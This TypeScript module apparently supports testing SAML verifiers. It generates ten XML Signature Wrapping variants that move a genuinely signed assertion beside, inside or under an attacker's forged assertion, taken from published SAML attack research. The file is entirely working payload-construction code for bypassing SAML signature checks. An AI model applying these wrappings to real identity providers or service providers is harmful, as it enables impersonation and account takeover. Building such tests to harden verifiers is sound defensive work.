/** What an attacker has: a true signed assertion, one of their own about somebody else, and an envelope. */
export interface Parts {
  assertion: string;
  forged: string;
  around(inside: string): string;
}

const SIGNATURE = /<Signature[\s\S]*<\/Signature>/;
const idOf = (assertion: string) => /\sID="([^"]+)"/.exec(assertion)?.[1] ?? '';
const withId = (assertion: string, id: string) => assertion.replace(/\sID="[^"]+"/, ` ID="${id}"`);
const inEnd = (outer: string, inner: string) =>
  outer.replace(/<\/saml:Assertion>$/, `${inner}</saml:Assertion>`);
const afterIssuer = (assertion: string, inner: string) =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${inner}`);
const extensions = (inside: string) =>
  `<samlp:Extensions xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">${inside}</samlp:Extensions>`;

/**
 * The known ways of moving signed elements about, so that a careless reader checks one element and
 * reads another (Somorovsky and others, On Breaking SAML, 2012), each by where the true one went.
 */
export const ways: Record<string, (parts: Parts) => string> = {
  'forged before true': ({ assertion, forged, around }) => around(forged + assertion),
  'forged after true': ({ assertion, forged, around }) => around(assertion + forged),
  'true inside forged': ({ assertion, forged, around }) => around(inEnd(forged, assertion)),
  'true inside the signature of forged'({ assertion, forged, around }) {
    const [signature = ''] = SIGNATURE.exec(assertion) ?? [];
    const bare = assertion.replace(SIGNATURE, '');
    const object = `<Object>${bare}</Object></Signature>`;
    return around(afterIssuer(forged, signature.replace('</Signature>', object)));
  },
  'true in the extensions, forged with its ID': ({ assertion, forged, around }) =>
    around(extensions(assertion) + withId(forged, idOf(assertion))),
  'true in the extensions, forged with its signature'({ assertion, forged, around }) {
    const [signature = ''] = SIGNATURE.exec(assertion) ?? [];
    return around(extensions(assertion.replace(SIGNATURE, '')) + afterIssuer(forged, signature));
  },
  'true in the advice of forged'({ assertion, forged, around }) {
    const [signature = ''] = SIGNATURE.exec(assertion) ?? [];
    const advice = `<saml:Advice>${assertion.replace(SIGNATURE, '')}</saml:Advice>`;
    return around(inEnd(afterIssuer(forged, signature), advice));
  },
  'forged under the signature of true'({ assertion, forged, around }) {
    const [signature = ''] = SIGNATURE.exec(assertion) ?? [];
    return around(afterIssuer(withId(forged, idOf(assertion)), signature));
  },
  'true answer inside a forged one'({ assertion, forged, around }) {
    const whole = around(assertion);
    return around(extensions(whole) + forged);
  },
  'forged holds the ID by another name'({ assertion, forged, around }) {
    const [signature = ''] = SIGNATURE.exec(assertion) ?? [];
    const named = forged.replace('<saml:Assertion ', `<saml:Assertion Id="${idOf(assertion)}" `);
    return around(extensions(assertion) + afterIssuer(named, signature));
  },
};

/** The n-th way, over and over. */
export function wrapped(number: number, parts: Parts): string {
  const all = Object.values(ways);
  const way = all[number % all.length];
  if (!way) throw new RangeError('no such way');
  return way(parts);
}
